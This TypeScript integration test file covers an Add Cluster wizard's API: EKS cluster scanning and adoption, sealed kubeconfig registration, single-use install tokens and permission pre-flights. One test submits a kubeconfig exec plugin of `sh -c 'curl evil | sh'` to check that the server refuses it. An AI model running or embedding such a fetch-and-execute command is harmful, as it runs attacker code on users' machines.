import { createHash } from 'node:crypto';
import { installTokenTtlSeconds } from '@spot/shared';
import { beforeAll, describe, expect, it } from 'vitest';
import { clusterKubeconfigEntity, clusterKubeconfigKey } from '../src/data/entities/cluster-kubeconfig';
import { installTokenEntity, installTokenKey } from '../src/data/entities/install-token';
import { getItem } from '../src/data/repository';
import { issueInstallToken, redeemInstallToken } from '../src/domain/cluster-onboarding';
import { openSecret } from '../src/domain/envelope';
import { configurePorts } from '../src/ports';
import {
  type DiscoveryHarness,
  installDiscoveryHarness,
  seedSandboxAccount,
  withOverrides,
} from './discovery-support';
import { expectContractResponse } from './support/contract';
import { call, signUpAndIn, useLocalServices } from './support/services';

/**
 * The Add Cluster wizard's routes (issue 17 item 4, ADR 0051) against DynamoDB Local and the sandbox
 * cloud: scan for unmanaged clusters, adopt, register by kubeconfig (sealed), the one-hour single-use
 * install token redeemed by the agent's first push (race included), the pre-flight; isolation and bad input.
 */

type User = Awaited<ReturnType<typeof signUpAndIn>>;
let a: User;
let b: User;
let harness: DiscoveryHarness;
let accountId: string;
/** Sandbox account 0's clusters: none is managed yet (no discovery ran). */
let sandboxClusters: { name: string; region: string; tags: Record<string, string> }[];
let regions: string[];

const sha256 = (t: string) => createHash('sha256').update(t).digest('hex');

beforeAll(async () => {
  await useLocalServices();
  harness = installDiscoveryHarness();
  [a, b] = await Promise.all([signUpAndIn('Wizard A'), signUpAndIn('Wizard B')]);
  const seeded = await seedSandboxAccount(harness, a.orgId, 0);
  accountId = seeded.accountId;
  sandboxClusters = harness.sandbox.world.clusters
    .filter((c) => c.awsAccountId === seeded.awsAccountId)
    .map((c) => ({ name: c.name, region: c.region, tags: c.tags }))
    .sort((x, y) => x.region.localeCompare(y.region) || x.name.localeCompare(y.name));
  regions = [...new Set(sandboxClusters.map((c) => c.region))].sort();
  // The scan adopts the first, the adopt test the second, the kubeconfig test the third, the
  // multi-adopt tests the others.
  expect(sandboxClusters.length).toBeGreaterThan(6);
}, 120_000);

const scan = (user: User, id: string, body: unknown) =>
  call('POST /api/client/accounts/{id}/cluster-scan', { token: user.accessToken, path: { id }, body });
const add = (user: User, body: unknown) =>
  call('POST /api/client/clusters', { token: user.accessToken, body });

function kubeconfig(user: Record<string, unknown>, server = 'https://ABC.gr7.us-east-1.eks.amazonaws.com') {
  return JSON.stringify({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [{ name: 'c', cluster: { server, 'certificate-authority-data': 'Q0E=' } }],
    contexts: [{ name: 'ctx', context: { cluster: 'c', user: 'u' } }],
    users: [{ name: 'u', user }],
  });
}

describe('POST /api/client/accounts/{id}/cluster-scan', () => {
  it('lists the unmanaged EKS clusters of the regions with env/team from their tags; adopted ones drop out', async () => {
    const first = await scan(a, accountId, { regions });
    expect(first.status, first.raw).toBe(200);
    expectContractResponse('POST /api/client/accounts/{id}/cluster-scan', first);
    const items = first.body.items as {
      name: string;
      region: string;
      labels: { env: string; team: string };
    }[];
    expect(items.map((i) => `${i.region}/${i.name}`).sort()).toEqual(
      sandboxClusters.map((c) => `${c.region}/${c.name}`).sort(),
    );
    for (const item of items) {
      const source = sandboxClusters.find((c) => c.name === item.name && c.region === item.region);
      expect(item.labels).toEqual({ env: source?.tags.env ?? null, team: source?.tags.team ?? null });
    }
    const picked = items.find((i) => i.name === sandboxClusters[0]?.name) as (typeof items)[number];
    const adopted = await add(a, {
      method: 'discovered',
      accountId,
      region: picked.region,
      name: picked.name,
    });
    expect(adopted.status, adopted.raw).toBe(201);
    const again = await scan(a, accountId, { regions });
    expect((again.body.items as { name: string }[]).map((i) => i.name)).not.toContain(picked.name);
    expect(again.body.managedCount).toBe(1);
  });

  it('refuses bad input with what to do, and another organization’s account is a 404', async () => {
    const none = await scan(a, accountId, { regions: [] });
    expect(none.status).toBe(400);
    expect(none.body.message).toMatch(/at least one region/);
    const bad = await scan(a, accountId, { regions: ['mars-north-9x'] });
    expect(bad.status).toBe(400);
    expect(bad.body.message).toMatch(/region code such as us-east-1/);
    const foreign = await scan(b, accountId, { regions });
    expect(foreign.status).toBe(404);
  });

  it('reports a region that fails and still answers the others', async () => {
    const failing = regions[0] as string;
    configurePorts({
      cloud: withOverrides(harness.sandbox, {
        listEksClusters: async (target) => {
          if (target.region === failing) throw new Error('socket hang up');
          return harness.sandbox.listEksClusters(target);
        },
      }),
    });
    try {
      const res = await scan(a, accountId, { regions });
      expect(res.status, res.raw).toBe(200);
      const byRegion = res.body.regions as { region: string; ok: boolean; error: string | null }[];
      expect(byRegion.find((r) => r.region === failing)).toMatchObject({ ok: false });
      expect(byRegion.find((r) => r.region === failing)?.error).not.toMatch(/socket/);
      expect(byRegion.filter((r) => r.ok).length).toBe(regions.length - 1);
    } finally {
      configurePorts({ cloud: harness.sandbox });
    }
  });
});

describe('POST /api/client/clusters', () => {
  it('adopts a discovered cluster with the wizard’s tags; it is listed; adopting it again is a 409', async () => {
    const target = sandboxClusters[1] as (typeof sandboxClusters)[number];
    const body = {
      method: 'discovered',
      accountId,
      region: target.region,
      name: target.name,
      team: 'platform',
    };
    const res = await add(a, body);
    expect(res.status, res.raw).toBe(201);
    expectContractResponse('POST /api/client/clusters', res);
    expect(res.body.tags).toMatchObject({ ...target.tags, team: 'platform' });
    const list = await call('GET /api/client/clusters', { token: a.accessToken, query: { limit: '50' } });
    expect((list.body.items ?? []).map((i) => i.id)).toContain(res.body.clusterId);
    const twice = await add(a, body);
    expect(twice.status).toBe(409);
    expect(twice.body.message).toMatch(/already managed/);
    // Another organization cannot adopt through this account, nor see the cluster.
    expect((await add(b, body)).status).toBe(404);
    const theirs = await call('GET /api/client/clusters/{id}', {
      token: b.accessToken,
      path: { id: String(res.body.clusterId) },
    });
    expect(theirs.status).toBe(404);
  });

  it('names a cluster the account does not have, and refuses a malformed body with the field', async () => {
    const missing = await add(a, { method: 'discovered', accountId, region: 'us-east-1', name: 'not-there' });
    expect(missing.status).toBe(404);
    expect(missing.body.message).toMatch(/no EKS cluster "not-there" in us-east-1/);
    const badName = await add(a, { method: 'discovered', accountId, region: 'us-east-1', name: 'bad name!' });
    expect(badName.status).toBe(400);
    expect(badName.body.message).toMatch(/name/);
    const noMethod = await add(a, { accountId, region: 'us-east-1', name: 'x' });
    expect(noMethod.status).toBe(400);
  });

  it('registers by kubeconfig: the file is sealed (AES-256-GCM), never returned; an exec plugin is refused', async () => {
    const target = sandboxClusters.find(
      (c) => c.region !== undefined && c !== sandboxClusters[0] && c !== sandboxClusters[1],
    );
    if (!target) throw new Error('the small sandbox has at least three clusters in account 0');
    const secret = `k8s-token-${Date.now()}`;
    const server = `https://ABC.gr7.${target.region}.eks.amazonaws.com`;
    const refused = await add(a, {
      method: 'kubeconfig',
      accountId,
      region: target.region,
      name: target.name,
      kubeconfig: kubeconfig({ exec: { command: 'sh', args: ['-c', 'curl evil | sh'] } }, server),
    });
    expect(refused.status).toBe(400);
    expect(refused.body.message).toMatch(/only `aws eks get-token` is accepted/);
    const wrongRegion = await add(a, {
      method: 'kubeconfig',
      accountId,
      region: target.region === 'us-east-1' ? 'eu-west-1' : 'us-east-1',
      name: target.name,
      kubeconfig: kubeconfig({ token: secret }, server),
    });
    expect(wrongRegion.status).toBe(400);
    expect(wrongRegion.body.message).toMatch(new RegExp(`Pick ${target.region}`));
    const file = kubeconfig({ token: secret }, server);
    const res = await add(a, {
      method: 'kubeconfig',
      accountId,
      region: target.region,
      name: target.name,
      kubeconfig: file,
    });
    expect(res.status, res.raw).toBe(201);
    expect(res.raw).not.toContain(secret);
    expect(res.body.kubeconfig).toEqual({ server, auth: 'token' });
    const clusterId = String(res.body.clusterId);
    const stored = await getItem(clusterKubeconfigEntity, clusterKubeconfigKey(a.orgId, clusterId), true);
    expect(stored).toBeDefined();
    expect(JSON.stringify(stored)).not.toContain(secret);
    if (!stored) return;
    const opened = await openSecret(stored, harness.keyService, `${a.orgId}/${clusterId}/kubeconfig`);
    expect(opened).toBe(file);
    // Bound to its cluster: opened as another cluster's, it fails.
    await expect(openSecret(stored, harness.keyService, `${a.orgId}/other/kubeconfig`)).rejects.toThrow();
    const detail = await call('GET /api/client/clusters/{id}', {
      token: a.accessToken,
      path: { id: clusterId },
    });
    expect(detail.raw).not.toContain(secret);
  });
});

describe('POST /api/client/clusters/adopt', () => {
  const adopt = (user: User, body: unknown) =>
    call('POST /api/client/clusters/adopt', { token: user.accessToken, body });
  const addAudit = async (user: User) => {
    const res = await call('GET /api/client/audit', { token: user.accessToken, query: { limit: '100' } });
    return (
      (res.body.items ?? []) as { action: string; target: string; outcome: string; after?: unknown }[]
    ).filter((r) => r.action === 'cluster.add' && (r.after as { via?: string } | undefined)?.via === 'adopt');
  };

  it('adopts each selected cluster on its own: the others are added when one fails, each with its audit record', async () => {
    const [managed, , , first, second] = sandboxClusters;
    if (!managed || !first || !second) throw new Error('account 0 has at least five clusters');
    const res = await adopt(a, {
      accountId,
      clusters: [
        { region: first.region, name: first.name, team: 'adopted-team' },
        { region: managed.region, name: managed.name },
        { region: first.region, name: 'gone-since-the-scan' },
        { region: second.region, name: second.name, env: '' },
      ],
    });
    expect(res.status, res.raw).toBe(200);
    expectContractResponse('POST /api/client/clusters/adopt', res);
    expect(res.body).toMatchObject({ accountId, added: 2, failed: 2 });
    const results = res.body.results as {
      name: string;
      outcome: string;
      clusterId: string | null;
      tags: Record<string, string> | null;
      errorCode: string | null;
      message: string;
    }[];
    // In the order asked, each with its outcome and, for a failure, what to do.
    expect(results.map((r) => [r.name, r.outcome, r.errorCode])).toEqual([
      [first.name, 'added', null],
      [managed.name, 'failed', 'CLUSTER_ALREADY_MANAGED'],
      ['gone-since-the-scan', 'failed', 'CLUSTER_NOT_IN_ACCOUNT'],
      [second.name, 'added', null],
    ]);
    expect(results[1]?.message).toMatch(/already managed.*Clusters page/);
    expect(results[2]?.message).toMatch(/Scan the region again/);
    expect(results[0]?.tags).toMatchObject({ ...first.tags, team: 'adopted-team' });
    expect(results[3]?.tags?.env).toBeUndefined();
    const list = await call('GET /api/client/clusters', { token: a.accessToken, query: { limit: '50' } });
    const listed = (list.body.items ?? []).map((i) => i.id);
    expect(listed).toContain(results[0]?.clusterId);
    expect(listed).toContain(results[3]?.clusterId);
    // One record per cluster asked for, its outcome its own; none in the other organization's trail.
    const records = await addAudit(a);
    expect(records.map((r) => r.outcome).sort()).toEqual(['failed', 'failed', 'success', 'success']);
    expect(records.map((r) => r.target)).toContain(`cluster/${results[0]?.clusterId}`);
    expect(await addAudit(b)).toEqual([]);
    // Adopted once: again, both fail as already managed.
    const again = await adopt(a, {
      accountId,
      clusters: [first, second].map((c) => ({ region: c.region, name: c.name })),
    });
    expect(again.body).toMatchObject({ added: 0, failed: 2 });
  });

  it('reports a region that does not answer per cluster, the other region’s clusters adopted', async () => {
    const byRegion = new Map<string, (typeof sandboxClusters)[number]>();
    for (const c of sandboxClusters.slice(5)) if (!byRegion.has(c.region)) byRegion.set(c.region, c);
    const [failing, working] = [...byRegion.values()];
    if (!failing || !working) throw new Error('account 0 has unadopted clusters in two regions');
    configurePorts({
      cloud: withOverrides(harness.sandbox, {
        listEksClusters: async (target) => {
          if (target.region === failing.region) throw new Error('socket hang up');
          return harness.sandbox.listEksClusters(target);
        },
      }),
    });
    try {
      const res = await adopt(a, {
        accountId,
        clusters: [failing, working].map((c) => ({ region: c.region, name: c.name })),
      });
      expect(res.status, res.raw).toBe(200);
      const results = res.body.results as { outcome: string; errorCode: string | null; message: string }[];
      expect(results.map((r) => [r.outcome, r.errorCode])).toEqual([
        ['failed', 'REGION_UNAVAILABLE'],
        ['added', null],
      ]);
      expect(results[0]?.message).not.toMatch(/socket/);
      expect(results[0]?.message).toMatch(/try it again/);
    } finally {
      configurePorts({ cloud: harness.sandbox });
    }
  });

  it('refuses bad input with the field and what to do; another organization’s account is a 404 with no record', async () => {
    const c = sandboxClusters[0] as (typeof sandboxClusters)[number];
    const none = await adopt(a, { accountId, clusters: [] });
    expect(none.status).toBe(400);
    expect(none.body.message).toMatch(/pick at least one/);
    const twice = await adopt(a, {
      accountId,
      clusters: [c, c].map((x) => ({ region: x.region, name: x.name })),
    });
    expect(twice.status).toBe(400);
    expect(twice.body.message).toMatch(/listed once/);
    const many = await adopt(a, {
      accountId,
      clusters: Array.from({ length: 51 }, (_, i) => ({ region: 'us-east-1', name: `c${i}` })),
    });
    expect(many.status).toBe(400);
    expect(many.body.message).toMatch(/at most 50/);
    const badName = await adopt(a, { accountId, clusters: [{ region: 'us-east-1', name: 'bad name!' }] });
    expect(badName.status).toBe(400);
    expect(badName.body.message).toMatch(/name/);
    const unknownField = await adopt(a, {
      accountId,
      clusters: [{ region: 'us-east-1', name: 'x', kubeconfig: 'y' }],
    });
    expect(unknownField.status).toBe(400);
    const before = (await addAudit(b)).length;
    const foreign = await adopt(b, { accountId, clusters: [{ region: c.region, name: c.name }] });
    expect(foreign.status).toBe(404);
    expect((await addAudit(b)).length).toBe(before);
  });
});

describe('install token', () => {
  let clusterId: string;
  beforeAll(async () => {
    const list = await call('GET /api/client/clusters', { token: a.accessToken, query: { limit: '50' } });
    clusterId = String(list.body.items?.[0]?.id);
  });

  const heartbeat = (token: string) =>
    call('POST /api/ingest/snapshots', { token, body: { kind: 'heartbeat', agentVersion: '0.1.0' } });

  it('is shown once with the Helm, kubectl and Terraform forms, valid one hour; another organization gets a 404', async () => {
    const before = Date.now();
    const res = await call('POST /api/client/clusters/{id}/install-token', {
      token: a.accessToken,
      path: { id: clusterId },
    });
    expect(res.status, res.raw).toBe(201);
    expectContractResponse('POST /api/client/clusters/{id}/install-token', res);
    const token = String(res.body.token);
    expect(token).toMatch(/^spot_ins_/);
    const install = res.body.install as { helm: string; kubectl: string; terraform: string };
    expect(install.helm).toContain(`--set token=${token}`);
    expect(install.kubectl).toContain(`agent token|${token}|`);
    expect(install.kubectl).toContain('kubectl apply -f -');
    // Terraform reads the token from a sensitive variable: the file never holds it.
    expect(install.terraform).toContain('resource "helm_release"');
    expect(install.terraform).not.toContain(token);
    const expiresMs = Date.parse(String(res.body.expiresAt));
    expect(expiresMs - before).toBeGreaterThanOrEqual(installTokenTtlSeconds * 1000 - 1000);
    expect(expiresMs - before).toBeLessThanOrEqual(installTokenTtlSeconds * 1000 + 60_000);
    const stored = await getItem(installTokenEntity, installTokenKey(sha256(token)), true);
    expect(stored?.redeemedAt).toBeNull();
    expect(JSON.stringify(stored)).not.toContain(token);
    const theirs = await call('POST /api/client/clusters/{id}/install-token', {
      token: b.accessToken,
      path: { id: clusterId },
    });
    expect(theirs.status).toBe(404);
  });

  it('is redeemed by the agent’s first push, which connects the agent; a later install token replaces it', async () => {
    const issue = async () =>
      String(
        (
          await call('POST /api/client/clusters/{id}/install-token', {
            token: a.accessToken,
            path: { id: clusterId },
          })
        ).body.token,
      );
    const first = await issue();
    expect((await heartbeat(first)).status).toBe(200);
    const stored = await getItem(installTokenEntity, installTokenKey(sha256(first)), true);
    expect(stored?.redeemedAt).not.toBeNull();
    const detail = await call('GET /api/client/clusters/{id}', {
      token: a.accessToken,
      path: { id: clusterId },
    });
    expect((detail.body.cluster as { agentConnected: boolean }).agentConnected).toBe(true);
    // It is the agent's credential now: its next pushes go on working.
    expect((await heartbeat(first)).status).toBe(200);
    // A new install (another token) takes over: the first one, redeemed and replaced, is refused.
    const second = await issue();
    expect((await heartbeat(second)).status).toBe(200);
    const stale = await heartbeat(first);
    expect(stale.status).toBe(401);
    expect(stale.body.message).toMatch(/already used/);
  });

  it('is redeemed exactly once when two first pushes race', async () => {
    const { body } = await issueInstallToken(a.orgId, clusterId, 'race-test', new Date());
    const results = await Promise.all(
      Array.from({ length: 4 }, () => redeemInstallToken(body.token, new Date()).catch((e: Error) => e)),
    );
    const redeemed = results.filter((r) => !(r instanceof Error) && r?.redeemed === true);
    expect(redeemed).toHaveLength(1);
    // The losers authenticate as the same cluster (the winner's agent token) or were refused; none redeemed.
    for (const r of results) if (!(r instanceof Error)) expect(r?.clusterId).toBe(clusterId);
    const cluster = await call('GET /api/client/clusters/{id}', {
      token: a.accessToken,
      path: { id: clusterId },
    });
    expect(cluster.status).toBe(200);
    expect((await heartbeat(body.token)).status).toBe(200);
  });

  it('refuses an expired token with what to do, and an unknown one', async () => {
    const past = new Date(Date.now() - (installTokenTtlSeconds + 60) * 1000);
    const { body } = await issueInstallToken(a.orgId, clusterId, 'expiry-test', past);
    const expired = await heartbeat(body.token);
    expect(expired.status).toBe(401);
    expect(expired.body.message).toMatch(/expired.*Add Cluster wizard/);
    const unknown = await heartbeat('spot_ins_not-a-token');
    expect(unknown.status).toBe(401);
  });

  it('refuses an id the contract refuses (400 naming it) and answers an unknown one with a 404, issuing nothing', async () => {
    const bad = await call('POST /api/client/clusters/{id}/install-token', {
      token: a.accessToken,
      path: { id: 'i'.repeat(101) },
    });
    expect(bad.status, bad.raw).toBe(400);
    expect(bad.body.message).toMatch(/^id: /);
    expect(bad.raw).not.toContain('spot_ins_');
    const unknown = await call('POST /api/client/clusters/{id}/install-token', {
      token: a.accessToken,
      path: { id: 'no-such-cluster' },
    });
    expect(unknown.status, unknown.raw).toBe(404);
    expect(unknown.raw).not.toContain('spot_ins_');
  });
});

/** The id of a cluster of `user`'s organization, by name. */
async function clusterIdOf(user: User, name: string): Promise<string> {
  const list = await call('GET /api/client/clusters', { token: user.accessToken, query: { limit: '50' } });
  const found = (list.body.items as { id: string; name: string }[]).find((c) => c.name === name);
  if (!found) throw new Error(`cluster ${name} is not managed`);
  return found.id;
}

/** Organization A's cluster the scan test adopted (by discovery: read with the role, no kubeconfig). */
async function adoptedId(): Promise<string> {
  const list = await call('GET /api/client/clusters', { token: a.accessToken, query: { limit: '50' } });
  const found = (list.body.items as { id: string; name: string }[]).find(
    (c) => c.name === sandboxClusters[0]?.name,
  );
  if (!found) throw new Error('the scan test adopted the first cluster');
  return found.id;
}

describe('POST /api/client/clusters/{id}/preflight', () => {
  it('checks the IAM actions with the account’s credentials and names the missing ones', async () => {
    // The cluster the scan test adopted: no kubeconfig, no agent yet; IAM, and its access entry (all in place).
    const clusterId = await adoptedId();
    const ok = await call('POST /api/client/clusters/{id}/preflight', {
      token: a.accessToken,
      path: { id: clusterId },
    });
    expect(ok.status, ok.raw).toBe(200);
    expectContractResponse('POST /api/client/clusters/{id}/preflight', ok);
    expect(ok.body.ok).toBe(true);
    expect(ok.body.missing).toEqual([]);
    expect(String((ok.body.kubernetes as { script: string }).script)).toContain(
      'kubectl auth can-i list pods',
    );
    configurePorts({
      cloud: withOverrides(harness.sandbox, {
        checkPermissions: async (target, actions) =>
          (await harness.sandbox.checkPermissions(target, actions)).map((c) =>
            c.action === 'eks:DescribeNodegroup' ? { ...c, allowed: false, reason: 'AccessDenied' } : c,
          ),
      }),
    });
    try {
      const denied = await call('POST /api/client/clusters/{id}/preflight', {
        token: a.accessToken,
        path: { id: clusterId },
      });
      expect(denied.body.ok).toBe(false);
      expect(denied.body.missing).toEqual(['eks:DescribeNodegroup']);
    } finally {
      configurePorts({ cloud: harness.sandbox });
    }
    const theirs = await call('POST /api/client/clusters/{id}/preflight', {
      token: b.accessToken,
      path: { id: clusterId },
    });
    expect(theirs.status).toBe(404);
  });
});

describe('POST /api/client/clusters/{id}/preflight: Kubernetes permissions verified (ADR 0070)', () => {
  const preflightOf = (user: User, id: string) =>
    call('POST /api/client/clusters/{id}/preflight', { token: user.accessToken, path: { id } });
  type Verified = {
    source: string;
    subject: string;
    fixHint: string;
    required: boolean;
    checks: { verb: string; resource: string; allowed: boolean; fix: string; name: string }[];
    missing: string[];
    error: string | null;
  };
  const verifiedOf = (body: Record<string, unknown>) =>
    (body.kubernetes as { verified: Verified[] }).verified;

  it('checks an agentless cluster with its kubeconfig: all allowed, then the one the sandbox takes away named', async () => {
    // Organization B's own account (the sandbox's second) and a cluster registered with its read-only kubeconfig.
    const seeded = await seedSandboxAccount(harness, b.orgId, 1);
    const target = harness.sandbox.world.clusters.find(
      (c) => c.awsAccountId === seeded.awsAccountId && !c.createdOnRequest,
    );
    if (!target) throw new Error('the sandbox’s second account has a cluster');
    const file = harness.sandbox.kubeconfigFor(target.name);
    const added = await add(b, {
      method: 'kubeconfig',
      accountId: seeded.accountId,
      region: target.region,
      name: target.name,
      kubeconfig: file,
    });
    expect(added.status, added.raw).toBe(201);
    const clusterId = String(added.body.clusterId);

    const all = await preflightOf(b, clusterId);
    expect(all.status, all.raw).toBe(200);
    expectContractResponse('POST /api/client/clusters/{id}/preflight', all);
    expect(all.body.ok).toBe(true);
    const [checked] = verifiedOf(all.body);
    expect(verifiedOf(all.body)).toHaveLength(1);
    expect(checked?.source).toBe('kubeconfig');
    expect(checked?.error).toBeNull();
    expect(checked?.missing).toEqual([]);
    expect(checked?.checks.map((c) => `${c.verb} ${c.resource}`)).toContain('list nodes.metrics.k8s.io');
    expect(checked?.checks.every((c) => c.allowed)).toBe(true);
    // The credential never comes back.
    expect(all.raw).not.toContain(harness.sandbox.serviceAccountToken(target.name));

    // The sandbox takes "list events" away from the kubeconfig's user: the pre-flight names it, with the fix.
    harness.sandbox.rbac.set(target.name, ['kubeconfig'], 'list', 'events', false);
    // Taken from the agent only, it does not concern the kubeconfig's check.
    harness.sandbox.rbac.set(target.name, ['agent'], 'list', 'pods', false);
    try {
      const denied = await preflightOf(b, clusterId);
      expect(denied.status, denied.raw).toBe(200);
      expectContractResponse('POST /api/client/clusters/{id}/preflight', denied);
      expect(denied.body.ok).toBe(false);
      expect(denied.body.missing).toEqual([]);
      const [one] = verifiedOf(denied.body);
      expect(one?.missing).toEqual(['list events — pressure events and spot interruptions']);
      expect(one?.checks.find((c) => c.resource === 'events')).toMatchObject({
        allowed: false,
        fix: '- apiGroups: [""]\n  resources: ["events"]\n  verbs: ["list"]',
      });
    } finally {
      harness.sandbox.rbac.set(target.name, ['kubeconfig'], 'list', 'events', true);
      harness.sandbox.rbac.set(target.name, ['agent'], 'list', 'pods', true);
    }
    expect((await preflightOf(b, clusterId)).body.ok).toBe(true);
    // Another organization's cluster id is a 404, and nothing of the cluster leaks.
    const theirs = await preflightOf(a, clusterId);
    expect(theirs.status).toBe(404);
    expect(theirs.raw).not.toContain(target.name);
  });

  it('reports a kubeconfig the cluster refuses with what to do, not as permissions missing', async () => {
    const list = await call('GET /api/client/clusters', { token: a.accessToken, query: { limit: '50' } });
    // The kubeconfig test registered a cluster with a made-up API server: the sandbox has none there.
    const registered = (list.body.items as { id: string; source: string | null; name: string }[]).find(
      (c) => c.name === sandboxClusters[2]?.name,
    );
    if (!registered) throw new Error('the kubeconfig test registered the third cluster');
    const res = await preflightOf(a, registered.id);
    expect(res.status, res.raw).toBe(200);
    const [checked] = verifiedOf(res.body);
    expect(checked?.source).toBe('kubeconfig');
    expect(checked?.checks).toEqual([]);
    expect(checked?.error).toMatch(/does not answer/);
    expect(res.body.ok).toBe(false);
  });

  it('checks a discovered cluster as the role’s access entry: all allowed, then the one taken from its group named with the fix', async () => {
    // The cluster the adopt test adopted by discovery: no kubeconfig, no agent; the collector reads it
    // through the account role's EKS access entry, and so do the reviews.
    const name = String(sandboxClusters[1]?.name);
    const clusterId = await clusterIdOf(a, name);
    const all = await preflightOf(a, clusterId);
    expect(all.status, all.raw).toBe(200);
    expectContractResponse('POST /api/client/clusters/{id}/preflight', all);
    expect(all.body.ok).toBe(true);
    expect(verifiedOf(all.body)).toHaveLength(1);
    const [checked] = verifiedOf(all.body);
    expect(checked).toMatchObject({ source: 'access-entry', error: null, missing: [], required: true });
    expect(checked?.subject).toMatch(/EKS access entry \(Kubernetes group spot-optimizer:readonly\)/);
    expect(checked?.checks.map((c) => `${c.verb} ${c.resource}`)).toEqual([
      'list nodes',
      'list pods',
      'list events',
      'list deployments.apps',
      'list replicasets.apps',
      'list poddisruptionbudgets.policy',
      'list horizontalpodautoscalers.autoscaling',
      'list nodes.metrics.k8s.io',
    ]);
    expect(checked?.checks.every((c) => c.allowed)).toBe(true);

    // "list horizontalpodautoscalers" taken from the access entry's group only: named, with the rule and
    // where it goes for an access entry (the ClusterRole bound to its group, not an access policy).
    harness.sandbox.rbac.set(name, ['role'], 'list', 'horizontalpodautoscalers.autoscaling', false);
    // Taken from the kubeconfig's user, it does not concern the access entry.
    harness.sandbox.rbac.set(name, ['kubeconfig'], 'list', 'events', false);
    try {
      const denied = await preflightOf(a, clusterId);
      expect(denied.status, denied.raw).toBe(200);
      expectContractResponse('POST /api/client/clusters/{id}/preflight', denied);
      expect(denied.body.ok).toBe(false);
      expect(denied.body.missing).toEqual([]);
      const [one] = verifiedOf(denied.body);
      expect(one?.source).toBe('access-entry');
      expect(one?.missing).toEqual(['list horizontalpodautoscalers.autoscaling — HPA-aware rightsizing']);
      expect(one?.checks.find((c) => c.resource === 'horizontalpodautoscalers.autoscaling')).toMatchObject({
        allowed: false,
        fix: '- apiGroups: ["autoscaling"]\n  resources: ["horizontalpodautoscalers"]\n  verbs: ["list"]',
      });
      expect(one?.fixHint).toMatch(/ClusterRole spot-optimizer-readonly/);
      expect(one?.fixHint).toMatch(/agentless-rbac\.yaml/);
      expect(one?.fixHint).toMatch(/--kubernetes-groups spot-optimizer:readonly/);
    } finally {
      harness.sandbox.rbac.set(name, ['role'], 'list', 'horizontalpodautoscalers.autoscaling', true);
      harness.sandbox.rbac.set(name, ['kubeconfig'], 'list', 'events', true);
    }

    // Without the access entry the cluster refuses the role: an error saying what to do, no permission
    // reported missing, and the pre-flight fails.
    harness.sandbox.setAccessEntry(name, false);
    try {
      const refused = await preflightOf(a, clusterId);
      expect(refused.status, refused.raw).toBe(200);
      expectContractResponse('POST /api/client/clusters/{id}/preflight', refused);
      expect(refused.body.ok).toBe(false);
      expect(refused.body.missing).toEqual([]);
      const [none] = verifiedOf(refused.body);
      expect(none).toMatchObject({ source: 'access-entry', checks: [], missing: [], required: true });
      expect(none?.error).toMatch(/no EKS access entry/);
      expect(none?.error).toMatch(/Create an EKS access entry for the Spot Optimizer role/);
    } finally {
      harness.sandbox.setAccessEntry(name, true);
    }
    expect((await preflightOf(a, clusterId)).body.ok).toBe(true);
    expect((await preflightOf(b, clusterId)).status).toBe(404);
  });

  it('returns what the agent reported of its own permissions, the missing one named', async () => {
    const clusterId = await adoptedId();
    const issued = await call('POST /api/client/clusters/{id}/install-token', {
      token: a.accessToken,
      path: { id: clusterId },
    });
    const token = String(issued.body.token);
    const checks = [
      { verb: 'list', resource: 'nodes', allowed: true, reason: 'RBAC: allowed by ClusterRoleBinding' },
      { verb: 'list', resource: 'pods', allowed: true, reason: null },
      { verb: 'list', resource: 'events', allowed: false, reason: null },
      { verb: 'list', resource: 'deployments.apps', allowed: true, reason: null },
      { verb: 'list', resource: 'replicasets.apps', allowed: true, reason: null },
      { verb: 'list', resource: 'poddisruptionbudgets.policy', allowed: true, reason: null },
      { verb: 'list', resource: 'horizontalpodautoscalers.autoscaling', allowed: true, reason: null },
      { verb: 'list', resource: 'nodes.metrics.k8s.io', allowed: true, reason: null },
    ];
    const checkedAt = new Date().toISOString();
    const pushed = await call('POST /api/ingest/snapshots', {
      token,
      body: { kind: 'heartbeat', agentVersion: '0.1.0', permissions: { checkedAt, checks } },
    });
    expect(pushed.status, pushed.raw).toBe(200);
    // A later heartbeat without a report (an older agent) keeps the last one.
    expect(
      (
        await call('POST /api/ingest/snapshots', {
          token,
          body: { kind: 'heartbeat', agentVersion: '0.1.0' },
        })
      ).status,
    ).toBe(200);
    const res = await preflightOf(a, clusterId);
    expect(res.status, res.raw).toBe(200);
    expectContractResponse('POST /api/client/clusters/{id}/preflight', res);
    expect(res.body.ok).toBe(false);
    expect(res.body.missing).toEqual([]);
    const verified = verifiedOf(res.body);
    // Both: the role's access entry, checked now (all in place, a fallback now that the agent reports),
    // and the agent's own report.
    expect(verified.map((v) => v.source)).toEqual(['access-entry', 'agent']);
    expect(verified[0]).toMatchObject({ missing: [], error: null, required: false });
    expect(verified[1]?.missing).toEqual(['list events — pressure events and spot interruptions']);
    expect(verified[1]?.subject).toMatch(/agent's service account/);
    expect(verified[1]?.fixHint).toMatch(/ClusterRole spot-optimizer-agent-read/);
    // The cluster's page carries the report too: the wizard's sonar reads it there.
    const detail = await call('GET /api/client/clusters/{id}', {
      token: a.accessToken,
      path: { id: clusterId },
    });
    expect((detail.body.cluster as { agent: { permissions: unknown } }).agent.permissions).toEqual({
      checkedAt,
      checks,
    });
    // A malformed report is refused with the field.
    const bad = await call('POST /api/ingest/snapshots', {
      token,
      body: { kind: 'heartbeat', agentVersion: '0.1.0', permissions: { checkedAt: 'yesterday', checks } },
    });
    expect(bad.status).toBe(400);
    expect(bad.body.message).toMatch(/permissions/);
    // Once the agent reports every permission in place, the access entry is only the collector's fallback:
    // its absence is shown, with what to do, and does not fail the pre-flight.
    const fine = checks.map((c) => ({ ...c, allowed: true }));
    const again = await call('POST /api/ingest/snapshots', {
      token,
      body: { kind: 'heartbeat', agentVersion: '0.1.0', permissions: { checkedAt, checks: fine } },
    });
    expect(again.status, again.raw).toBe(200);
    const name = String(sandboxClusters[0]?.name);
    harness.sandbox.setAccessEntry(name, false);
    try {
      const fallback = await preflightOf(a, clusterId);
      expectContractResponse('POST /api/client/clusters/{id}/preflight', fallback);
      const [entry, agentReport] = verifiedOf(fallback.body);
      expect(entry).toMatchObject({ source: 'access-entry', required: false, checks: [] });
      expect(entry?.error).toMatch(/no EKS access entry/);
      expect(agentReport).toMatchObject({ source: 'agent', required: true, missing: [], error: null });
      expect(fallback.body.ok).toBe(true);
    } finally {
      harness.sandbox.setAccessEntry(name, true);
    }
    const theirs = await preflightOf(b, clusterId);
    expect(theirs.status).toBe(404);
  });
});
